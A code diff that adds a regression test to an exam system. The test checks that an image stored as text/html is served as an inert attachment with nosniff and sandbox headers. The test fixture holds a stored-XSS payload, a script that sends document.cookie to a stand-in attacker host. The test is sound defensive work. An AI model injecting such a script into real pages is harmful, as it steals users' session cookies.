@@ -59,3 +59,26 @@ def test_the_pending_items_picture_is_served_to_its_attempt_only(api, exam, bank
     r = api.get("/exam/images/1/chart.png")
     assert r.status_code == 200 and r.content == chart
     assert api.get("/exam/images/1/secret.png").status_code == 404
+
+
+def test_a_stored_html_picture_reaches_the_candidate_as_no_page(api, exam, bank_db) -> None:
+    """Issue 18: a "picture" stored with type text/html before pictures were checked by their
+    bytes is served to the candidate as bytes (octet-stream, nosniff, sandboxed), never as a page."""
+    _, tickets = exam
+    html = b"<html><script>fetch('//evil.example/?'+document.cookie)</script></html>"
+    for v in bank_db.scalars(select(ItemVersion)):
+        v.stem = v.stem + "\n如图所示：[图片:chart.png]"
+        bank_db.add(ItemImage(version_id=v.id, name="chart.png", media_type="text/html", data=html))
+    bank_db.commit()
+    aid, h = sign_in(api, tickets[0])
+    api.get(f"/api/v1/attempts/{aid}/item", headers=h)
+
+    from_api = api.get(f"/api/v1/attempts/{aid}/items/1/images/chart.png", headers=h)
+    api.post("/exam/login", data={"ticket": tickets[0]["ticket"], "code": tickets[0]["access_code"]})
+    for r in (from_api, api.get("/exam/images/1/chart.png")):
+        assert r.status_code == 200 and r.content == html
+        assert r.headers["content-type"] == "application/octet-stream"
+        assert r.headers["x-content-type-options"] == "nosniff"
+        assert r.headers["content-security-policy"] == "default-src 'none'; sandbox"
+        assert r.headers["content-disposition"].startswith("attachment;")
+        assert r.headers["cache-control"] == "private, max-age=3600"
